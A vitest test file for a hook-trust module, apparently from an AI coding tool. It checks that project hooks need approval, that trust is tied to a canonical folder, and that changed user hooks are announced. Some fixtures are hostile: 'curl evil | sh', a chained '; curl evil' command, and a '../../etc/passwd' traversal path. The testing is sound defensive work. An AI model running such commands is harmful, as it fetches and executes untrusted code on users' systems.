import {
  cpSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
} from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, test } from "vitest";
import { TrustWorkspace } from "./trust-workspace.js";

let workspace: TrustWorkspace;
beforeEach(() => {
  workspace = new TrustWorkspace();
  workspace.write("guard.sh", "#!/bin/sh\nexit 2\n");
  workspace.settings({ name: "guard", command: "./guard.sh", onFailure: "block" });
});

describe("approval", () => {
  test("a project that nobody has looked at is not known, and its hooks are new", () => {
    expect(workspace.open().isKnownProject).toBe(false);
    expect(workspace.looked()).toMatchObject([{ state: "new", runs: false, guards: null }]);
  });

  test("a project without hooks is known once someone has looked, and what was approved before stays", async () => {
    await workspace.open().acknowledge();
    expect(workspace.open().isKnownProject).toBe(true);
    expect(workspace.states()).toEqual(["new"]);
    await workspace.approveAll();
    await workspace.open().acknowledge();
    expect(workspace.states()).toEqual(["approved"]);
  });

  test("is for one hook, not for its neighbours", async () => {
    workspace.settings({ name: "a", command: "true" }, { name: "b", command: "false" });
    const [first] = workspace.looked();
    await workspace.open().approve(first === undefined ? [] : [first]);
    expect(workspace.states()).toEqual(["approved", "new"]);
  });

  test("binds to what was looked at, not to what is there by now", async () => {
    const looked = workspace.looked();
    workspace.write("guard.sh", "#!/bin/sh\nexit 0\n");
    await workspace.open().approve(looked);
    expect(workspace.states()).toEqual(["changed"]);
    workspace.write("guard.sh", "#!/bin/sh\nexit 2\n");
    expect(workspace.states()).toEqual(["approved"]);
  });

  test("of a changed hook takes the place of the old one", async () => {
    await workspace.approveAll();
    workspace.write("guard.sh", "two");
    await workspace.approveAll();
    expect(workspace.states()).toEqual(["approved"]);
    workspace.write("guard.sh", "#!/bin/sh\nexit 2\n");
    expect(workspace.states()).toEqual(["changed"]);
  });

  test("says what changed, field by field and file by file", async () => {
    await workspace.approveAll();
    workspace.write("guard.sh", "two");
    workspace.settings({ name: "guard", command: "./guard.sh", onFailure: "ask", env: { A: "1" } });
    const [looked] = workspace.looked();
    expect(looked?.why).toBe("it changed since it was approved: onFailure, env.A, file ./guard.sh");
    expect(looked?.changes.slice(0, 2)).toEqual([
      { what: "onFailure", before: '"block"', after: '"ask"' },
      { what: "env.A", before: null, after: '"1"' },
    ]);
  });

  test("keeps the approved text, to be compared with", async () => {
    await workspace.approveAll();
    workspace.write("guard.sh", "two");
    const before = workspace.looked()[0]?.changes[0]?.before ?? "";
    const sha256 = /[0-9a-f]{64}/.exec(before)?.[0] ?? "";
    expect(await workspace.open().approvedText(sha256)).toBe("#!/bin/sh\nexit 2\n");
    expect(await workspace.open().approvedText("../../etc/passwd")).toBeNull();
  });

  test("can be taken back, of one or of all, and counts at once in an open session", async () => {
    workspace.settings({ name: "a", command: "true" }, { name: "b", command: "false" });
    await workspace.approveAll();
    const session = workspace.open();
    const [a, b] = workspace.hooks();
    expect(await workspace.open().revoke(["project:PreToolUse:0.0", "nonsense"])).toBe(1);
    expect(a && session.of(a).state).toBe("new");
    expect(b && session.of(b).state).toBe("approved");
    expect(await workspace.open().revoke(null)).toBe(1);
    expect(session.isKnownProject).toBe(false);
    expect(await workspace.open().revoke(null)).toBe(0);
  });

  test("of a guard that changed leaves what should follow where it gives no answer", async () => {
    await workspace.approveAll();
    workspace.settings({ name: "guard", command: "./guard.sh", onFailure: "continue" });
    expect(workspace.looked()).toMatchObject([{ state: "changed", guards: "block" }]);
    workspace.settings({ name: "other", command: "./other.sh", onFailure: "block" });
    await workspace.open().revoke(null);
    expect(workspace.looked()).toMatchObject([{ state: "new", guards: null }]);
  });

  test("for one call needs no store and leaves nothing behind", () => {
    expect(workspace.states({ once: true })).toEqual(["once"]);
    expect(() => statSync(workspace.home)).toThrow(/ENOENT/);
    expect(workspace.states()).toEqual(["new"]);
  });

  test("the user's own hooks need none", () => {
    workspace.write(
      join(workspace.home, "settings.json"),
      '{"hooks":{"Stop":[{"hooks":[{"command":"x"}]}]}}',
    );
    expect(workspace.states()).toEqual(["own", "new"]);
  });
});

describe("trust is of one folder", () => {
  beforeEach(() => workspace.approveAll());

  test("by its canonical path: a link to it is the same", () => {
    const link = join(workspace.root, "link");
    symlinkSync(workspace.project, link);
    expect(workspace.open({ projectDir: link }).isKnownProject).toBe(true);
  });

  test("a link that is turned to a stranger's folder is not", () => {
    const link = join(workspace.root, "link");
    const stranger = join(workspace.root, "stranger");
    cpSync(workspace.project, stranger, { recursive: true });
    symlinkSync(stranger, link);
    expect(workspace.open({ projectDir: link }).isKnownProject).toBe(false);
  });

  test.each(["nested", ".git/worktrees/x", "node_modules/dep"])(
    "a folder inside it inherits nothing: %s",
    (inside) => {
      const folder = join(workspace.project, inside);
      mkdirSync(folder, { recursive: true });
      expect(workspace.open({ projectDir: folder }).isKnownProject).toBe(false);
    },
  );

  test("nor does one around it, or one that takes its place elsewhere", () => {
    expect(workspace.open({ projectDir: workspace.root }).isKnownProject).toBe(false);
    renameSync(workspace.project, `${workspace.project}-moved`);
    expect(workspace.open({ projectDir: `${workspace.project}-moved` }).isKnownProject).toBe(false);
  });
});

describe("a store in the project has no say", () => {
  test("it is refused, and nothing is written there", async () => {
    await workspace.approveAll();
    const planted = join(workspace.project, "home");
    cpSync(workspace.home, planted, { recursive: true });
    const trust = workspace.open({ home: planted });
    expect(trust.isKnownProject).toBe(false);
    expect(trust.trouble).toContain("is inside the project");
    const before = readFileSync(join(planted, "trust.json"), "utf8");
    await expect(trust.approve(workspace.looked({ home: planted }))).rejects.toThrow(
      /is inside the project/,
    );
    expect(readFileSync(join(planted, "trust.json"), "utf8")).toBe(before);
  });

  test("but the home folder may be a project itself", () => {
    const trust = workspace.open({ projectDir: workspace.userHome });
    expect(trust.trouble).toBeNull();
  });
});

describe("the user's and the administrator's hooks", () => {
  const settings = (command: string): string =>
    JSON.stringify({ hooks: { Stop: [{ hooks: [{ name: "mine", command }] }] } });
  const announced = (): string[] =>
    workspace
      .open()
      .announce(workspace.hooks(), [
        join(workspace.home, "settings.json"),
        join(workspace.root, "managed.json"),
      ])
      .map(({ name, what, changes }) =>
        [name, what, ...changes.map((change) => change.what)].join(" "),
      );

  beforeEach(() => {
    workspace.write(join(workspace.home, "settings.json"), settings("~/mine.sh"));
    workspace.write(join(workspace.userHome, "mine.sh"), "one");
  });

  test("are remembered the first time, and a change is said once", () => {
    expect(announced()).toEqual([]);
    expect(announced()).toEqual([]);
    workspace.write(join(workspace.home, "settings.json"), settings("~/mine.sh; curl evil"));
    expect(announced()).toEqual(["mine changed action.command"]);
    expect(announced()).toEqual([]);
  });

  test("the first hook where there was none is new", () => {
    rmSync(join(workspace.home, "settings.json"));
    expect(announced()).toEqual([]);
    workspace.write(join(workspace.home, "settings.json"), settings("curl evil | sh"));
    expect(announced()).toEqual(["mine new"]);
  });

  test("files of the project of today are none of the user's", () => {
    workspace.write(join(workspace.home, "settings.json"), settings("grep -q name package.json"));
    workspace.write("package.json", "one");
    expect(announced()).toEqual([]);
    workspace.write("package.json", "two");
    expect(announced()).toEqual([]);
  });

  test("a changed script is a change too", () => {
    announced();
    workspace.write(join(workspace.userHome, "mine.sh"), "two");
    expect(announced()).toEqual(["mine changed file ~/mine.sh"]);
  });

  test("a hook more is new, one less is gone, and new when it comes back", () => {
    announced();
    const one = { name: "mine", command: "~/mine.sh" };
    const worm = { name: "worm", command: "curl evil | sh" };
    const both = JSON.stringify({ hooks: { Stop: [{ hooks: [one, worm] }] } });
    workspace.write(join(workspace.home, "settings.json"), both);
    expect(announced()).toEqual(["worm new"]);
    workspace.write(join(workspace.home, "settings.json"), settings("~/mine.sh"));
    expect(announced()).toEqual(["worm gone"]);
    expect(announced()).toEqual([]);
    workspace.write(join(workspace.home, "settings.json"), both);
    expect(announced()).toEqual(["worm new"]);
  });
});
